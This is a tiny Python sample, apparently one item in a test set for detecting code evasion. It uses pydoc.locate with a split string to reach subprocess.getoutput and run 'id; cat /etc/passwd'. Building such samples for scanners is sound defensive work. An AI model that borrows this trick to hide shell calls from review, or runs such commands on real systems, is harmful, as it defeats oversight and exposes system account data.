# evasion: pydoc.locate finds subprocess.getoutput from a dotted string
# grade: hard; does: shell
import pydoc

fn = pydoc.locate("subprocess" + "." + "getoutput")
print(fn("id; cat /etc/passwd"))
